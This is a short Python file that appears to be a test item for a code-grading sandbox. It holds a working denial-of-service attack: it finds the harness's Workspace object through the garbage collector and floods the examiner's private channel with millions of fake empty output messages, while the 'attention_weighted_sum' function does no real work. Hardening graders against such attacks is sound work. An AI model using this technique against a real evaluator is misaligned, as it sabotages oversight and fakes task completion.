# item: attention-weighted-sum
# expect: crashed, timeout
# attack: millions of empty messages of output, written by the block: reading them costs the examiner more than writing
import gc
import os
import struct

workspace = next(entry for entry in gc.get_objects() if type(entry).__name__ == "Workspace")
text = b'{"out":"stdout","s":""}'
block = (struct.pack(">2sBxIQ", b"AW", 1, len(text), 0) + text) * 1500


def attention_weighted_sum(inputs, attention_weights):
    for _ in range(8000):
        left = memoryview(block)
        while left:
            left = left[os.write(workspace._channel._fd, left) :]
    return inputs
